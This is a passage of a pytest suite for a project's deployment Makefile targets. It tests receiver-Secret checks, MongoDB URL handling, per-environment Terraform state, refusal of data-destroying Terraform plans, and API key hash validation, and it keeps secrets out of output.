    [("dev", {"CA4_ALERT_WEBHOOK_URL_FILE"}), ("prod", set(RECEIVER_FILE_VARIABLES.values()))],
)
def test_platform_setup_without_receiver_secrets_stops_before_anything_changes(
    sandbox: Sandbox, value_set: str, variables: set[str]
) -> None:
    """No file and no Secret in the cluster: one line naming the variables, before any change,
    instead of `helm --wait` waiting 10 minutes for an Alertmanager whose Secret never comes."""
    without_receiver_files(sandbox)
    (sandbox.home / ".kube" / "ca4-dev.yaml").write_text("apiVersion: v1\n")
    result = sandbox.make("ca4-platform-setup", env={"ENV": value_set})
    assert result.returncode != 0
    line = result.stderr.strip().splitlines()[0]
    assert line.startswith("ca4-platform-setup: missing setting: "), result.stderr
    assert set(line.split(": missing setting: ")[1].split(" (")[0].split()) == variables
    assert "ca4-alertmanager-receivers does not exist" in line
    changes = [
        c
        for c in sandbox.calls()
        if (c["tool"] == "helm" and c["argv"][0] != "template")
        or (c["tool"] == "kubectl" and verb_args(c["argv"])[0] not in {"version", "get"})
    ]
    assert changes == []


def test_platform_setup_keeps_using_a_receivers_secret_the_operator_created(
    sandbox: Sandbox,
) -> None:
    """An operator who created the namespace and the Secret by hand (the old instructions) needs
    no file: the Secret is left as it is, and the namespace is made adoptable by the release."""
    without_receiver_files(sandbox)
    secrets = {"monitoring/ca4-alertmanager-receivers": {"webhook-url": WEBHOOK_URL}}
    (sandbox.home / ".kube" / "ca4-dev.yaml").write_text("apiVersion: v1\n")
    result = sandbox.make("ca4-platform-setup", env={"CA4_FAKE_SECRETS": json.dumps(secrets)})
    assert result.returncode == 0, result.stderr
    calls = sandbox.calls()
    assert not [c for c in calls if {"create", "secret"} <= set(c["argv"])], "Secret rewritten"
    annotate = kubectl_index(calls, "annotate", "namespace", "monitoring")
    install = next(i for i, c in enumerate(calls) if c["argv"][:2] == ["upgrade", "--install"])
    assert annotate < install
    assert "using the existing Secret monitoring/ca4-alertmanager-receivers" in result.stdout


def test_platform_setup_names_the_keys_an_existing_secret_lacks(sandbox: Sandbox) -> None:
    without_receiver_files(sandbox)
    secrets = {"monitoring/ca4-alertmanager-receivers": {"webhook-url": WEBHOOK_URL}}
    (sandbox.home / ".kube" / "ca4-dev.yaml").write_text("apiVersion: v1\n")
    result = sandbox.make(
        "ca4-platform-setup", env={"ENV": "prod", "CA4_FAKE_SECRETS": json.dumps(secrets)}
    )
    assert result.returncode != 0
    assert (
        "ca4-platform-setup: missing setting: CA4_ALERT_SLACK_API_URL_FILE "
        "CA4_ALERT_SMTP_PASSWORD_FILE (" in result.stderr
    )
    assert "lacks their keys" in result.stderr
    assert not [c for c in sandbox.calls() if c["argv"][:2] == ["upgrade", "--install"]]


def test_platform_setup_refuses_half_the_receiver_files(sandbox: Sandbox) -> None:
    """Files for some receivers only: the Secret would be written without the others' keys."""
    (sandbox.home / ".kube" / "ca4-dev.yaml").write_text("apiVersion: v1\n")
    result = sandbox.make("ca4-platform-setup", env={"ENV": "prod"})
    assert result.returncode != 0
    assert (
        "ca4-platform-setup: missing setting: CA4_ALERT_SLACK_API_URL_FILE "
        "CA4_ALERT_SMTP_PASSWORD_FILE (the receivers Secret monitoring/ca4-alertmanager-receivers "
        "is written whole" in result.stderr
    )
    assert not [c for c in sandbox.calls() if c["tool"] == "kubectl" and "apply" in c["argv"]]


def test_platform_setup_refuses_an_empty_receiver_file(sandbox: Sandbox) -> None:
    sandbox.webhook_url_file.write_text("")
    (sandbox.home / ".kube" / "ca4-dev.yaml").write_text("apiVersion: v1\n")
    result = sandbox.make("ca4-platform-setup")
    assert result.returncode != 0
    assert "ca4-platform-setup: missing file: CA4_ALERT_WEBHOOK_URL_FILE=" in result.stderr
    assert not [c for c in sandbox.calls() if c["tool"] == "kubectl" and "apply" in c["argv"]]


def test_make_renders_for_the_kubernetes_release_it_installs() -> None:
    """The target's offline `helm template` needs a version the charts accept: K3s's."""
    text = (REPO / "mk" / "infra.mk").read_text()
    match = re.search(r"^CA4_KUBE_VERSION \?= (\S+)$", text, re.M)
    assert match, "CA4_KUBE_VERSION is not set in mk/infra.mk"
    assert f"v{match.group(1)}+k3s1" == K3S_VERSION


# -- ca4-deploy-app: the database URL -----------------------------------------------------------


def dev_mongo_url(rendered: Rendered) -> str:
    """The app URL the dev platform chart keeps in its MongoDB Secret (a fresh password)."""
    secret = next(
        d
        for d in rendered[("ca4-platform", "dev")]
        if d["kind"] == "Secret" and d["metadata"]["name"] == "ca4-platform-mongodb"
    )
    assert secret["metadata"]["namespace"] == "platform"
    return base64.b64decode(secret["data"]["mongo-url"]).decode()


def test_dev_deploy_reads_the_in_cluster_mongo_url(sandbox: Sandbox, rendered: Rendered) -> None:
    """ENV=dev has no DocumentDB: without CA4_MONGO_URL the app Secret gets the URL of the
    in-cluster MongoDB that ca4-platform generated, never through a command line or the output."""
    assert sandbox.make("ca4-bootstrap-k3s", "ca4-images").returncode == 0
    sandbox.reset()
    url = dev_mongo_url(rendered)
    sandbox.env = {k: v for k, v in sandbox.env.items() if k != "CA4_MONGO_URL"}
    secrets = {"platform/ca4-platform-mongodb": {"mongo-url": url}}
    result = sandbox.make("ca4-deploy-app", env={"CA4_FAKE_SECRETS": json.dumps(secrets)})
    assert result.returncode == 0, result.stderr
    calls = sandbox.calls()
    app_secret = kubectl_index(calls, "create", "secret", "generic", "ca4-app-secrets")
    assert calls[app_secret]["files"]["mongo-url"] == url
    assert url not in json.dumps([c["argv"] for c in calls])
    assert url not in result.stdout + result.stderr


def test_dev_deploy_follows_a_remade_in_cluster_mongo(sandbox: Sandbox, rendered: Rendered) -> None:
    """The guide's way back from a lost dev MongoDB (delete its PVC and Secret, run step 6) makes
    new passwords: the next deploy takes the in-cluster URL over the app Secret's stale one for
    the same host, so the pods are not left failing authentication. Another database the app
    Secret names (an operator's own) is kept."""
    assert sandbox.make("ca4-bootstrap-k3s", "ca4-images").returncode == 0
    url = dev_mongo_url(rendered)
    host = url.rsplit("@", 1)[1]
    sandbox.env = {k: v for k, v in sandbox.env.items() if k != "CA4_MONGO_URL"}
    for live, expected in (
        (f"mongodb://ca4app:old-password@{host}", url),
        (
            "mongodb://ca4app:own@db.corp.test:27017/ca4",
            "mongodb://ca4app:own@db.corp.test:27017/ca4",
        ),
        (f"mongodb://root:own@{host}", f"mongodb://root:own@{host}"),  # another user: its own
    ):
        sandbox.reset()
        (sandbox.state / "applied-secrets.json").unlink(missing_ok=True)  # the last apply's
        secrets = {
            "platform/ca4-platform-mongodb": {"mongo-url": url},
            "app/ca4-app-secrets": {"mongo-url": live, "api-key-hashes": "ci:" + "a" * 64},
        }
        result = sandbox.make("ca4-deploy-app", env={"CA4_FAKE_SECRETS": json.dumps(secrets)})
        assert result.returncode == 0, result.stderr
        calls = sandbox.calls()
        app_secret = kubectl_index(calls, "create", "secret", "generic", "ca4-app-secrets")
        assert calls[app_secret]["files"]["mongo-url"] == expected
        assert url not in result.stdout + result.stderr


def test_dev_deploy_without_a_database_names_the_setting(sandbox: Sandbox) -> None:
    assert sandbox.make("ca4-bootstrap-k3s", "ca4-images").returncode == 0
    sandbox.reset()
    sandbox.env = {k: v for k, v in sandbox.env.items() if k != "CA4_MONGO_URL"}
    result = sandbox.make("ca4-deploy-app")
    assert result.returncode != 0
    assert (
        result.stderr.strip()
        .splitlines()[0]
        .startswith(
            "ca4-deploy-app: missing setting: CA4_MONGO_URL (ENV=dev: no in-cluster MongoDB URL in "
            "the Secret platform/ca4-platform-mongodb"
        )
    )
    assert not [c for c in sandbox.calls() if c["tool"] == "helm" or "apply" in c["argv"]]


def test_prod_deploy_needs_its_mongo_url(sandbox: Sandbox) -> None:
    """Prod never falls back to an in-cluster database: CA4_MONGO_URL names DocumentDB."""
    sandbox.env = {k: v for k, v in sandbox.env.items() if k != "CA4_MONGO_URL"}
    secrets = {"platform/ca4-platform-mongodb": {"mongo-url": "mongodb://x:y@mongodb/ca4"}}
    (sandbox.home / ".kube" / "ca4-dev.yaml").write_text("apiVersion: v1\n")
    result = sandbox.make(
        "ca4-deploy-app", env={"ENV": "prod", "CA4_FAKE_SECRETS": json.dumps(secrets)}
    )
    assert result.returncode != 0
    assert "ca4-deploy-app: missing setting: CA4_MONGO_URL" in result.stderr
    assert not [c for c in sandbox.calls() if c["tool"] == "helm" or "apply" in c["argv"]]


def prod_deploy(sandbox: Sandbox, **env: str) -> subprocess.CompletedProcess[str]:
    assert sandbox.make("ca4-bootstrap-k3s", "ca4-images").returncode == 0
    sandbox.reset()
    return sandbox.make("ca4-deploy-app", env={"ENV": "prod", **env})


def test_prod_deploy_needs_the_ingress_host(sandbox: Sandbox) -> None:
    """values-prod.yaml has no host: the operator names the API's DNS name, before any change."""
    result = prod_deploy(sandbox)
    assert result.returncode != 0
    line = result.stderr.strip().splitlines()[0]
    assert line.startswith("ca4-deploy-app: missing setting: CA4_INGRESS_HOST (ENV=prod: "), line
    assert "terraform output ingress_dns_name" in line
    assert "app/ca4-api-tls" in line
    assert not [c for c in sandbox.calls() if c["tool"] == "helm" or "apply" in c["argv"]]


def test_prod_deploy_passes_the_ingress_host_the_chart_accepts(sandbox: Sandbox, helm: str) -> None:
    result = prod_deploy(sandbox, CA4_INGRESS_HOST=PROD_INGRESS_HOST)
    assert result.returncode == 0, result.stderr
    upgrade = next(c["argv"] for c in sandbox.calls() if c["argv"][:2] == ["upgrade", "--install"])
    assert upgrade[upgrade.index(f"ingress.host={PROD_INGRESS_HOST}") - 1] == "--set-string"
    # The chart, given exactly what the target passes, renders the prod Ingress for that host.
    args = [a for a in upgrade[2:] if a != "--wait"]
    rendered = run([helm, "template", *args, "--kube-version", "1.33.5"])
    assert rendered.returncode == 0, rendered.stderr
    assert f'host: "{PROD_INGRESS_HOST}"' in rendered.stdout
    assert "secretName: ca4-api-tls" in rendered.stdout


def test_prod_placeholder_ingress_host_is_refused_by_the_chart(sandbox: Sandbox, helm: str) -> None:
    result = prod_deploy(sandbox, CA4_INGRESS_HOST="api.ca4.example.com")
    assert result.returncode == 0, "the fake helm does not render upgrades"
    upgrade = next(c["argv"] for c in sandbox.calls() if c["argv"][:2] == ["upgrade", "--install"])
    args = [a for a in upgrade[2:] if a != "--wait"]
    rendered = run([helm, "template", *args, "--kube-version", "1.33.5"])
    assert rendered.returncode != 0
    assert 'ingress.host: "api.ca4.example.com" is a placeholder (example.com' in rendered.stderr


def test_prod_platform_setup_passes_the_email_receiver_settings(
    sandbox: Sandbox, tmp_path: Path
) -> None:
    for key, variable in RECEIVER_FILE_VARIABLES.items():
        path = tmp_path / f"{key}.secret"
        path.write_text(RECEIVER_VALUES[key])
        sandbox.env[variable] = str(path)
    (sandbox.home / ".kube" / "ca4-dev.yaml").write_text("apiVersion: v1\n")
    result = sandbox.make("ca4-platform-setup", env={"ENV": "prod"})
    assert result.returncode == 0, result.stderr
    upgrade = next(c["argv"] for c in sandbox.calls() if c["argv"][:2] == ["upgrade", "--install"])
    for key, value in PROD_EMAIL.items():
        setting = f"alertmanager.receivers.email.{key}={value}"
        assert upgrade[upgrade.index(setting) - 1] == "--set-string"


def test_prod_platform_setup_passes_a_list_of_addresses_whole(
    sandbox: Sandbox, tmp_path: Path
) -> None:
    """Alertmanager's ``to`` takes a comma-separated list, which ``--set-string`` splits at each
    comma unless the comma is escaped (a second read found the deploy stopped on it)."""
    for key, variable in RECEIVER_FILE_VARIABLES.items():
        path = tmp_path / f"{key}.secret"
        path.write_text(RECEIVER_VALUES[key])
        sandbox.env[variable] = str(path)
    sandbox.env["CA4_ALERT_EMAIL_TO"] = "oncall@ca4-ci.test,ops@ca4-ci.test"
    (sandbox.home / ".kube" / "ca4-dev.yaml").write_text("apiVersion: v1\n")
    result = sandbox.make("ca4-platform-setup", env={"ENV": "prod"})
    assert result.returncode == 0, result.stderr
    upgrade = next(c["argv"] for c in sandbox.calls() if c["argv"][:2] == ["upgrade", "--install"])
    assert r"alertmanager.receivers.email.to=oncall@ca4-ci.test\,ops@ca4-ci.test" in upgrade


def test_prod_platform_setup_without_the_email_settings_names_them(sandbox: Sandbox) -> None:
    """values-prod.yaml leaves the email receiver's addresses to the operator (no example.org):
    without them the chart's render stops the target before any change, naming the variables."""
    email_variables = [
        "CA4_ALERT_EMAIL_TO",
        "CA4_ALERT_EMAIL_FROM",
        "CA4_ALERT_SMTP_SMARTHOST",
        "CA4_ALERT_SMTP_USERNAME",
    ]
    sandbox.env = {k: v for k, v in sandbox.env.items() if k not in email_variables}
    (sandbox.home / ".kube" / "ca4-dev.yaml").write_text("apiVersion: v1\n")
    result = sandbox.make("ca4-platform-setup", env={"ENV": "prod"})
    assert result.returncode != 0
    assert (
        "alertmanager.receivers.email needs to, from and smarthost: set to (CA4_ALERT_EMAIL_TO)"
        in result.stderr
    )
    changes = [
        c
        for c in sandbox.calls()
        if (c["tool"] == "helm" and c["argv"][0] != "template")
        or (c["tool"] == "kubectl" and verb_args(c["argv"])[0] not in {"version", "get"})
    ]
    assert changes == []


def test_os_environ_untouched() -> None:
    assert "CA4_FAKE_LOG" not in os.environ


# -- Terraform: each ENV reads its own state -----------------------------------------------------

# What reads Terraform outputs, and what each needs besides the state (a kubeconfig, a built tag).
OUTPUT_READERS = [
    "ca4-bootstrap-k3s",
    "ca4-images",
    "ca4-db-user",
    "ca4-api-tunnel",
    "ca4-deploy-app",
    "ca4-verify-e2e",
    "dev-kafka-tunnel",
]


def ready_for(sandbox: Sandbox, target: str) -> None:
    """What `target` needs from the earlier steps: the kubeconfig and the images' tag."""
    (sandbox.home / ".kube" / "ca4-dev.yaml").write_text("apiVersion: v1\n")
    (sandbox.state_dir / "image-tag").write_text(IMAGE_TAG + "\n")


def changes(calls: list[dict[str, Any]]) -> list[list[str]]:
    """The calls that change something: ssh, aws writes, kubectl/helm other than reads, uv."""
    out = []
    for call in calls:
        argv = call["argv"]
        reads = {"version", "get", "template"}
        if (
            call["tool"] in {"ssh", "docker", "uv"}
            or (call["tool"] == "aws" and "create-secret" in argv)
            or (call["tool"] in {"kubectl", "helm"} and verb_args(argv)[0] not in reads)
        ):
            out.append(argv)
    return out


def test_each_env_reads_its_own_terraform_state(sandbox: Sandbox, tmp_path: Path) -> None:
    """dev and prod initialised in one checkout: `make ... ENV=dev` reads dev's state through
    dev's own data dir, wherever prod was initialised last (one shared .terraform answered with
    prod's outputs, and the dev kubeconfig got prod's cluster)."""
    state_dirs = {env: tmp_path / f"state-{env}" for env in ("dev", "prod")}
    for env, state_dir in state_dirs.items():
        result = sandbox.make("ca4-tf-init", env={"ENV": env, "CA4_STATE_DIR": str(state_dir)})
        assert result.returncode == 0, result.stderr
    inits = [c for c in sandbox.calls() if c["tool"] == "terraform"]
    assert [c["data_dir"] for c in inits] == [str(d / "terraform") for d in state_dirs.values()]
    sandbox.reset()
    dev = {"ENV": "dev", "CA4_STATE_DIR": str(state_dirs["dev"])}
    result = sandbox.make("ca4-bootstrap-k3s", "ca4-verify-e2e", env=dev)
    assert result.returncode == 0, result.stderr
    outputs = [c for c in sandbox.calls() if c["tool"] == "terraform"]
    assert outputs, "no terraform output read"
    assert {c["state"] for c in outputs} == {"ca4/dev/terraform.tfstate"}
    assert {c["data_dir"] for c in outputs} == {str(state_dirs["dev"] / "terraform")}


def test_terraform_data_dir_is_per_env_and_git_ignored() -> None:
    """Without CA4_STATE_DIR, each ENV's data dir is .ca4/<ENV>/terraform, which git ignores."""
    env = {k: v for k, v in os.environ.items() if k not in {"CA4_STATE_DIR", "ENV"}}
    for name in ("dev", "prod"):
        shown = run(
            [
                *["make", "--no-print-directory", "-f", str(REPO / "mk" / "infra.mk")],
                *[
                    f"ENV={name}",
                    "--eval",
                    "show-tf-dir: ; @echo $(CA4_TF_DATA_DIR)",
                    "show-tf-dir",
                ],
            ],
            cwd=REPO,
            env=env,
        )
        assert shown.stdout.strip() == str(REPO / ".ca4" / name / "terraform"), shown.stderr
        path = f".ca4/{name}/terraform/terraform.tfstate"
        assert run(["git", "check-ignore", "-q", path], cwd=REPO).returncode == 0, path


@pytest.mark.parametrize("target", OUTPUT_READERS)
def test_another_envs_state_is_refused(sandbox: Sandbox, target: str) -> None:
    """One CA4_STATE_DIR for both ENVs, prod initialised last: every target that reads outputs
    stops before any change, naming the command to run, instead of acting on prod."""
    assert sandbox.make("ca4-tf-init", env={"ENV": "prod"}).returncode == 0
    ready_for(sandbox, target)
    sandbox.reset()
    kubeconfig = (sandbox.home / ".kube" / "ca4-dev.yaml").read_text()
    result = sandbox.make(target, env={"ENV": "dev"})
    assert result.returncode != 0
    assert (
        f"the Terraform data dir {sandbox.state_dir}/terraform holds ENV=prod's state, not "
        "ENV=dev's: run 'make ca4-tf-init ENV=dev'" in result.stderr
    ), result.stderr
    assert changes(sandbox.calls()) == []
    assert (sandbox.home / ".kube" / "ca4-dev.yaml").read_text() == kubeconfig


@pytest.mark.parametrize("target", ["ca4-bootstrap-k3s", "ca4-deploy-app", "ca4-verify-e2e"])
def test_uninitialised_terraform_dir_is_named(sandbox: Sandbox, target: str) -> None:
    shutil.rmtree(sandbox.state_dir / "terraform")
    ready_for(sandbox, target)
    result = sandbox.make(target)
    assert result.returncode != 0
    assert (
        "Terraform is not initialised for ENV=dev (no backend in its data dir "
        f"{sandbox.state_dir}/terraform): run 'make ca4-tf-init ENV=dev'" in result.stderr
    ), result.stderr
    assert changes(sandbox.calls()) == []


def test_apply_and_destroy_use_the_envs_data_dir(sandbox: Sandbox) -> None:
    for target in ("ca4-apply", "ca4-destroy"):
        assert sandbox.make(target, env={"ENV": "prod"}).returncode == 0
    calls = [c for c in sandbox.calls() if c["tool"] == "terraform"]
    assert {c["data_dir"] for c in calls} == {str(sandbox.state_dir / "terraform")}
    assert {c["state"] for c in calls[1:]} == {"ca4/prod/terraform.tfstate"}


# -- ca4-apply: a saved plan that deletes what holds data is applied only when asked ---------------

CHECK_TF_PLAN = REPO / "tools" / "provision" / "scripts" / "check-tf-plan.py"
# A value the plan's JSON holds in clear: the check never prints one.
PLAN_SECRET = "user-data-value-never-printed"
SERVER_0 = 'module.k3s.aws_instance.node["server-0"]'


def resource_change(
    address: str, actions: list[str], *, replace_paths: list[list[str]] | None = None
) -> dict[str, Any]:
    """One entry of a plan's resource_changes (``terraform show -json PLAN``)."""
    module, _, rest = address.rpartition(".aws_")
    kind, _, name = f"aws_{rest}".partition(".")
    change: dict[str, Any] = {
        "actions": actions,
        "before": {"user_data": PLAN_SECRET},
        "after": {"user_data": PLAN_SECRET},
    }
    if replace_paths:
        change["replace_paths"] = replace_paths
    return {
        "address": address,
        "module_address": module or None,
        "mode": "managed",
        "type": kind,
        "name": name.split("[")[0],
        "change": change,
    }


def plan_json(*changes: dict[str, Any]) -> str:
    """A saved plan's JSON holding ``changes``."""
    return json.dumps(
        {"format_version": "1.2", "terraform_version": "1.11.4", "resource_changes": changes}
    )


# What raising k3s_data_volume_size_gb plans: ebs_block_device is ForceNew on aws_instance.
DATA_DISK_RESIZE = plan_json(
    resource_change(SERVER_0, ["delete", "create"], replace_paths=[["ebs_block_device"]]),
    resource_change(
        'module.k3s.aws_lb_target_group_attachment.traefik_https["server-0"]',
        ["delete", "create"],
    ),
)


def terraform_verbs(sandbox: Sandbox) -> list[str]:
    return [
        verb_args(c["argv"])[0]
        for c in sandbox.calls()
        if c["tool"] == "terraform" and verb_args(c["argv"])[0] != "output"
    ]


def test_apply_refuses_a_plan_that_replaces_a_node(sandbox: Sandbox) -> None:
    """The documented capacity step (k3s_data_volume_size_gb) replaces every node and deletes
    its data disk: the saved plan is read and refused, naming each resource, and nothing is
    applied."""
    result = sandbox.make("ca4-apply", env={"CA4_FAKE_TF_PLAN": DATA_DISK_RESIZE})
    assert result.returncode != 0
    assert terraform_verbs(sandbox) == ["init", "plan", "show"], "nothing applied"
    show = next(c["argv"] for c in sandbox.calls() if "show" in c["argv"])
    assert verb_args(show) == ["show", "-json", "ca4-dev.tfplan"]
    assert (
        "ca4-apply: the plan deletes or replaces resources that hold data or run the cluster "
        f"(nothing was applied):\n  {SERVER_0}: replace (delete, create), forced by "
        "ebs_block_device\n"
    ) in result.stderr, result.stderr
    assert "traefik_https" not in result.stderr, "only the types that hold data are listed"
    assert "CA4_ALLOW_REPLACE=yes" in result.stderr
    assert PLAN_SECRET not in result.stdout + result.stderr


def test_apply_with_allow_replace_applies_the_replacement(sandbox: Sandbox) -> None:
    result = sandbox.make(
        "ca4-apply", env={"CA4_FAKE_TF_PLAN": DATA_DISK_RESIZE, "CA4_ALLOW_REPLACE": "yes"}
    )
    assert result.returncode == 0, result.stderr
    assert terraform_verbs(sandbox) == ["init", "plan", "show", "apply"]
    apply = next(c["argv"] for c in sandbox.calls() if "apply" in c["argv"])
    assert verb_args(apply) == ["apply", "-input=false", "ca4-dev.tfplan"]
    assert f"CA4_ALLOW_REPLACE=yes: applying a plan that deletes or replaces:\n  {SERVER_0}" in (
        result.stdout
    )


def test_apply_applies_an_in_place_update_as_before(sandbox: Sandbox) -> None:
    """Updates in place, creations and replacements of what holds no data need no flag."""
    plan = plan_json(
        resource_change(SERVER_0, ["update"]),
        resource_change("module.documentdb.aws_docdb_cluster.this[0]", ["update"]),
        resource_change('module.k3s.aws_instance.node["agent-2"]', ["create"]),
        resource_change("module.security.aws_security_group.k3s_nodes", ["create", "delete"]),
    )
    result = sandbox.make("ca4-apply", env={"CA4_FAKE_TF_PLAN": plan})
    assert result.returncode == 0, result.stderr
    assert terraform_verbs(sandbox) == ["init", "plan", "show", "apply"]
    assert "CA4_ALLOW_REPLACE" not in result.stdout + result.stderr


def load_check_tf_plan() -> Any:
    """tools/provision/scripts/check-tf-plan.py as a module (its name is not importable)."""
    spec = importlib.util.spec_from_file_location("check_tf_plan", CHECK_TF_PLAN)
    assert spec is not None
    assert spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


@pytest.mark.parametrize(
    "kind",
    [
        "aws_instance",
        "aws_ebs_volume",
        "aws_volume_attachment",
        "aws_docdb_cluster",
        "aws_docdb_cluster_instance",
        "aws_s3_bucket",
        "aws_kms_key",
    ],
)
@pytest.mark.parametrize("actions", [["delete"], ["delete", "create"], ["create", "delete"]])
def test_check_tf_plan_refuses_deleting_what_holds_data(kind: str, actions: list[str]) -> None:
    check_tf_plan = load_check_tf_plan()
    plan = json.loads(plan_json(resource_change(f"module.m.{kind}.this", actions)))
    with pytest.raises(check_tf_plan.RefusedError, match=rf"module\.m\.{kind}\.this: "):
        check_tf_plan.check(plan, allow_replace=False)
    assert len(check_tf_plan.check(plan, allow_replace=True)) == 1


@pytest.mark.parametrize(
    "change",
    [
        resource_change(SERVER_0, ["update"]),
        resource_change(SERVER_0, ["no-op"]),
        resource_change(SERVER_0, ["create"]),
        resource_change("module.k3s.aws_lb_target_group.traefik_https", ["delete", "create"]),
        {**resource_change(SERVER_0, ["delete"]), "mode": "data"},
    ],
    ids=["update", "no-op", "create", "other-type", "data-source"],
)
def test_check_tf_plan_passes_what_keeps_the_data(change: dict[str, Any]) -> None:
    check_tf_plan = load_check_tf_plan()
    assert check_tf_plan.check(json.loads(plan_json(change)), allow_replace=False) == []


def test_check_tf_plan_refuses_what_is_not_a_plan(tmp_path: Path) -> None:
    check_tf_plan = load_check_tf_plan()
    for text in ("", "[]", '{"resource_changes": []}'):
        (tmp_path / "plan.json").write_text(text)
        assert check_tf_plan.main(["--plan-json", str(tmp_path / "plan.json")]) == 1
    (tmp_path / "plan.json").write_text(plan_json())
    assert check_tf_plan.main(["--plan-json", str(tmp_path / "plan.json")]) == 0


# -- ca4-deploy-app: the live Secret's values are kept, and checked before they go live -----------

KEY_HASH = {name: hashlib.sha256(f"{name}-api-key".encode()).hexdigest() for name in "abc"}
LIVE_KEYS = (
    f"ci:{KEY_HASH['a']}:ci:write+read\ncolab:{KEY_HASH['b']}:acme\n"
    f"ops:{KEY_HASH['c']}:ops:read:all\n"
)


def live_app_secret(**values: str) -> dict[str, str]:
    """CA4_FAKE_SECRETS with the app Secret holding ``values`` (api-key-hashes, mongo-url)."""
    return {"CA4_FAKE_SECRETS": json.dumps({"app/ca4-app-secrets": values})}


def applied_app_secret(sandbox: Sandbox) -> dict[str, str]:
    calls = sandbox.calls()
    files: dict[str, str] = calls[kubectl_index(calls, "create", "secret", "ca4-app-secrets")][
        "files"
    ]
    return files


def redeploy(sandbox: Sandbox, *unset: str, **env: str) -> subprocess.CompletedProcess[str]:
    """`make ca4-deploy-app` in prod after the first deploy, without the variables ``unset``."""
    ready_for(sandbox, "ca4-deploy-app")
    sandbox.env = {k: v for k, v in sandbox.env.items() if k not in unset}
    return sandbox.make(
        "ca4-deploy-app", env={"ENV": "prod", "CA4_INGRESS_HOST": PROD_INGRESS_HOST, **env}
    )


def test_redeploy_keeps_the_live_keys_and_database_url(sandbox: Sandbox) -> None:
    """Step 7 again from a fresh shell: the live Secret's values are applied as they are."""
    live = live_app_secret(**{"api-key-hashes": LIVE_KEYS, "mongo-url": DOCDB_URL})
    result = redeploy(sandbox, "CA4_API_KEY_HASHES", "CA4_MONGO_URL", **live)
    assert result.returncode == 0, result.stderr
    assert applied_app_secret(sandbox) == {"api-key-hashes": LIVE_KEYS, "mongo-url": DOCDB_URL}
    assert "CA4_API_KEY_HASHES unset: keeping the keys of the live Secret app/ca4-app-secrets" in (
        result.stdout
    )
    assert "keeping the database URL of the live Secret" in result.stdout
    assert DOCDB_URL not in result.stdout + result.stderr


def test_redeploy_refuses_to_drop_live_key_ids_unless_asked(sandbox: Sandbox) -> None:
    """A partial CA4_API_KEY_HASHES would revoke the other keys as soon as the Secret is applied
    (the pods reload it live), even if Helm then fails: refused, naming the ids only."""
    live = live_app_secret(**{"api-key-hashes": LIVE_KEYS, "mongo-url": DOCDB_URL})
    partial = f"ci:{KEY_HASH['a']}:ci:write+read"
    result = redeploy(sandbox, CA4_API_KEY_HASHES=partial, **live)
    assert result.returncode != 0
    assert (
        "ca4-deploy-app: CA4_API_KEY_HASHES drops key id(s) colab, ops that the live Secret "
        "holds" in result.stderr
    ), result.stderr
    assert "CA4_REVOKE_KEYS=yes" in result.stderr
    assert not [h for h in KEY_HASH.values() if h in result.stdout + result.stderr]
    assert changes(sandbox.calls())[-1:] == [
        next(c["argv"] for c in sandbox.calls() if c["tool"] == "uv")
    ], "nothing but the check ran"
    sandbox.reset()
    result = redeploy(sandbox, CA4_API_KEY_HASHES=partial, CA4_REVOKE_KEYS="yes", **live)
    assert result.returncode == 0, result.stderr
    assert applied_app_secret(sandbox)["api-key-hashes"] == partial
    assert "CA4_REVOKE_KEYS=yes: revoking key id(s) colab, ops" in result.stdout


def test_redeploy_may_rotate_a_key_and_add_others(sandbox: Sandbox) -> None:
    live = live_app_secret(**{"api-key-hashes": LIVE_KEYS, "mongo-url": DOCDB_URL})
    rotated = LIVE_KEYS.replace(KEY_HASH["b"], "f" * 64) + f"new:{'e' * 64}:acme:write\n"
    result = redeploy(sandbox, CA4_API_KEY_HASHES=rotated, **live)
    assert result.returncode == 0, result.stderr
    assert applied_app_secret(sandbox)["api-key-hashes"] == rotated


RAW_KEY = "my-raw-api-key-never-in-the-output"


@pytest.mark.parametrize(
    ("hashes", "reason"),
    [
        (f"ci:{RAW_KEY}", "field 2 must be the 64 hex digit SHA-256 of the key, never the key"),
        (f"ci:{'a' * 64}:acme:admin", "scopes (field 4) must be '+'-separated from"),
        (f"ci:{hashlib.sha256(b'ca4-dev-key').hexdigest()}", "the public dev key"),
        (f"ci:{'a' * 64}:legacy", "tenant 'legacy' is reserved for events from before tenancy"),
        ("# only a comment", "holds no key (blank lines and comments only)"),
    ],
)
def test_deploy_refuses_keys_the_services_refuse(
    sandbox: Sandbox, hashes: str, reason: str
) -> None:
    """The services' own parser runs before the Secret is applied: pods that exit at start would
    only show as `helm --wait` timing out after 10 minutes."""
    result = redeploy(sandbox, CA4_API_KEY_HASHES=hashes)
    assert result.returncode != 0
    line = result.stderr.strip().splitlines()[0]
    assert line.startswith("ca4-deploy-app: CA4_API_KEY_HASHES"), line
    assert reason in line
    assert line.endswith("(nothing was applied)")
    assert RAW_KEY not in result.stdout + result.stderr
    assert [c for c in changes(sandbox.calls()) if c[0] != "run"] == []


def test_a_refused_secret_is_never_applied_even_without_the_shell_flags(sandbox: Sandbox) -> None:
    """The check and the apply share one shell line: under a make that ignores .SHELLFLAGS
    (3.81, the guard aside) a refusal followed by `;` went on to apply the Secret anyway."""
    ready_for(sandbox, "ca4-deploy-app")
    result = sandbox.make(
        "ca4-deploy-app", ".SHELLFLAGS=-c", env={"CA4_API_KEY_HASHES": f"ci:{RAW_KEY}"}
    )
    assert result.returncode != 0
    assert "ca4-deploy-app: CA4_API_KEY_HASHES" in result.stderr
    assert not [c for c in sandbox.calls() if {"create", "secret"} <= set(c["argv"])]
    assert not [c for c in sandbox.calls() if c["tool"] == "helm" and c["argv"][0] == "upgrade"]


@pytest.mark.parametrize(
    ("url", "reason"),
    [
        (DOCDB_URL.replace("tls=true&", ""), "does not say tls=true"),
        (DOCDB_URL.replace("tlsCAFile=/etc/ca4/db-ca/global-bundle.pem&", ""), "no tlsCAFile"),
        (
            DOCDB_URL.replace("/etc/ca4/db-ca/", "/tmp/"),
            "names tlsCAFile=/tmp/global-bundle.pem: the ca4-app chart mounts",
        ),
        (
            DOCDB_URL.replace("retryWrites=false", "retryWrites=true"),
            "DocumentDB has no retryable writes; use retryWrites=false",
        ),
        (
            DOCDB_URL.replace("app-pw-never", "app@pw-never"),
            "Username and password must be escaped",
        ),
        ("postgres://ca4app:app-pw-never-on-a-command-line@db/ca4", "is not a mongodb://"),
    ],
)
def test_prod_deploy_refuses_a_database_url_the_services_cannot_use(
    sandbox: Sandbox, url: str, reason: str
) -> None:
